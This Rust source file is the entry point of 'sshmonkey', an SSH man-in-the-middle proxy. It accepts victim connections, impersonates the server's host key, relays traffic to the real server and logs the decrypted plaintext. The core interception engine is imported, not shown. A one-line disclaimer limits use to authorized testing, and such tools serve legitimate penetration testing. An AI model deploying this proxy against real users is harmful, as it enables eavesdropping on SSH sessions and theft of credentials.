//! sshmonkey - transparent SSH interception proxy.
//!
//! Accepts victim connections on one address, dials the real server for
//! each, and runs an interception session per pair: both handshakes are
//! terminated here and channel traffic is relayed while the plaintext is
//! duplicated to the console.

use anyhow::{Context, Result};
use clap::Parser;
use std::path::PathBuf;
use std::sync::Arc;

use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;
use tracing::{debug, error, info, warn};
use tracing_subscriber::{layer::SubscriberExt, util::SubscriberInitExt};

use sshmonkey::{config::ConfigManager, HostIdentity, RelayEngine};

/// CLI arguments for sshmonkey
#[derive(Parser, Debug)]
#[command(name = "sshmonkey")]
#[command(about = "Transparent SSH interception proxy")]
#[command(version)]
#[command(long_about = "
sshmonkey - transparent SSH interception proxy

Terminates both legs of an SSH session: it presents an impersonated host
key to the connecting client and separately connects to the real server
as that client, relaying channels between the two while logging the
plaintext.

Configuration priority (highest to lowest):
1. Command-line arguments
2. Configuration file
3. Environment variables
4. Built-in defaults

Environment variables:
  SSHMONKEY_LISTEN_ADDR       - Listen address (e.g., 0.0.0.0:2222)
  SSHMONKEY_UPSTREAM_ADDR     - Real server address (e.g., 10.0.0.5:22)
  SSHMONKEY_KEY_FILE          - Host key file (OpenSSH/PEM)
  SSHMONKEY_RSA_BITS          - Generated host key strength
  SSHMONKEY_HANDSHAKE_TIMEOUT - Handshake budget (e.g., 15s)
  SSHMONKEY_SESSION_TIMEOUT   - Per-session deadline (e.g., 30m)
  SSHMONKEY_LOG_LEVEL         - Log level (trace, debug, info, warn, error)

Only use against hosts you are authorized to test.
")]
pub struct CliArgs {
    /// Configuration file path
    #[arg(short, long, default_value = "config.toml")]
    pub config: PathBuf,

    /// Listen address for victim connections (overrides config file)
    #[arg(short, long)]
    pub listen: Option<String>,

    /// Address of the real server (overrides config file)
    #[arg(long)]
    pub connect: Option<String>,

    /// Host key file; generated fresh when absent
    #[arg(short, long)]
    pub key: Option<PathBuf>,

    /// Strength of the generated host key
    #[arg(long)]
    pub rsa_bits: Option<usize>,

    /// Per-session deadline in seconds
    #[arg(long)]
    pub session_timeout: Option<u64>,

    /// Log level (trace, debug, info, warn, error)
    #[arg(long, default_value = "info")]
    pub log_level: String,

    /// Enable verbose logging (sets log level to debug)
    #[arg(short, long)]
    pub verbose: bool,

    /// Validate configuration and exit
    #[arg(long)]
    pub validate_config: bool,
}

#[tokio::main]
async fn main() -> Result<()> {
    let args = CliArgs::parse();

    init_tracing(&args)?;

    info!("Starting sshmonkey v{}", env!("CARGO_PKG_VERSION"));

    let mut config = if args.config.exists() {
        ConfigManager::load_from_file(&args.config)?
    } else {
        debug!("Config file not found, checking environment variables");
        ConfigManager::load_from_env()?
    };

    config.merge_with_cli_args(
        args.listen.as_deref(),
        args.connect.as_deref(),
        args.key.as_deref(),
        args.rsa_bits,
        args.session_timeout,
    );

    config
        .validate()
        .context("Final configuration validation failed")?;

    if args.validate_config {
        info!("Configuration is valid");
        info!("  Listen address: {}", config.server.listen_addr);
        info!("  Upstream address: {}", config.upstream.addr);
        info!("  Handshake timeout: {:?}", config.server.handshake_timeout);
        info!("  Session timeout: {:?}", config.server.session_timeout);
        info!(
            "  Host key: {}",
            config
                .identity
                .key_file
                .as_ref()
                .map(|p| p.display().to_string())
                .unwrap_or_else(|| format!("generated ({} bit RSA)", config.identity.rsa_bits)),
        );
        return Ok(());
    }

    let identity = load_or_generate_identity(&config).await?;
    info!("Impersonating host key {}", identity.fingerprint());

    let engine = Arc::new(RelayEngine::from_config(&config, Some(identity)));

    let listener = TcpListener::bind(config.server.listen_addr)
        .await
        .with_context(|| format!("Failed to bind {}", config.server.listen_addr))?;
    info!(
        "Listening on {}, relaying to {}",
        config.server.listen_addr, config.upstream.addr
    );

    let shutdown = CancellationToken::new();
    tokio::spawn({
        let shutdown = shutdown.clone();
        async move {
            wait_for_shutdown_signal().await;
            info!("Shutdown signal received, draining sessions");
            shutdown.cancel();
        }
    });

    let mut sessions: JoinSet<()> = JoinSet::new();
    let upstream_addr = config.upstream.addr;
    let connect_timeout = config.upstream.connect_timeout;

    loop {
        // Opportunistically reap finished sessions so the set stays small.
        while sessions.try_join_next().is_some() {}

        tokio::select! {
            _ = shutdown.cancelled() => break,
            accepted = listener.accept() => {
                let (victim, victim_addr) = match accepted {
                    Ok(pair) => pair,
                    Err(e) => {
                        warn!("Accept failed: {}", e);
                        continue;
                    }
                };
                info!("Victim connection from {}", victim_addr);

                let engine = engine.clone();
                let shutdown = shutdown.clone();
                sessions.spawn(async move {
                    let upstream = match tokio::time::timeout(
                        connect_timeout,
                        TcpStream::connect(upstream_addr),
                    )
                    .await
                    {
                        Ok(Ok(stream)) => stream,
                        Ok(Err(e)) => {
                            error!("Could not reach real server {}: {}", upstream_addr, e);
                            return;
                        }
                        Err(_) => {
                            error!("Dialing real server {} timed out", upstream_addr);
                            return;
                        }
                    };

                    if let Err(e) = engine.relay(&shutdown, victim, upstream).await {
                        warn!("Session from {} ended with error: {}", victim_addr, e);
                    }
                });
            }
        }
    }

    // Sessions observe the cancelled token; give them a bounded window.
    let drain = async {
        while sessions.join_next().await.is_some() {}
    };
    if tokio::time::timeout(config.server.shutdown_timeout, drain)
        .await
        .is_err()
    {
        warn!(
            "Sessions still active after {:?}, aborting",
            config.server.shutdown_timeout
        );
        sessions.shutdown().await;
    }

    info!("Shutdown complete");
    Ok(())
}

/// Load the host key from disk, or generate one of the configured
/// strength. Generation is CPU-bound and runs off the async workers.
async fn load_or_generate_identity(config: &sshmonkey::Config) -> Result<HostIdentity> {
    match &config.identity.key_file {
        Some(path) => {
            let encoded = std::fs::read_to_string(path)
                .with_context(|| format!("Failed to read host key file: {}", path.display()))?;
            let identity = HostIdentity::load(&encoded)
                .with_context(|| format!("Failed to parse host key file: {}", path.display()))?;
            Ok(identity)
        }
        None => {
            let bits = config.identity.rsa_bits;
            info!("Generating {} bit RSA host key, this can take a moment", bits);
            let identity = tokio::task::spawn_blocking(move || HostIdentity::generate(bits))
                .await
                .context("Key generation task failed")?
                .context("Key generation failed")?;
            Ok(identity)
        }
    }
}

async fn wait_for_shutdown_signal() {
    #[cfg(unix)]
    {
        use tokio::signal::unix::{signal, SignalKind};
        let mut sigterm = match signal(SignalKind::terminate()) {
            Ok(sigterm) => sigterm,
            Err(e) => {
                error!("Failed to install SIGTERM handler: {}", e);
                let _ = tokio::signal::ctrl_c().await;
                return;
            }
        };
        tokio::select! {
            _ = sigterm.recv() => info!("Received SIGTERM"),
            _ = tokio::signal::ctrl_c() => info!("Received Ctrl+C"),
        }
    }

    #[cfg(not(unix))]
    {
        let _ = tokio::signal::ctrl_c().await;
        info!("Received Ctrl+C");
    }
}

/// Initialize tracing/logging
fn init_tracing(args: &CliArgs) -> Result<()> {
    let log_level = if args.verbose {
        "debug"
    } else {
        &args.log_level
    };

    let env_filter = tracing_subscriber::EnvFilter::try_from_default_env()
        .unwrap_or_else(|_| tracing_subscriber::EnvFilter::new(log_level));

    tracing_subscriber::registry()
        .with(
            tracing_subscriber::fmt::layer()
                .with_target(false)
                .with_level(true)
                .with_ansi(true),
        )
        .with(env_filter)
        .init();

    Ok(())
}
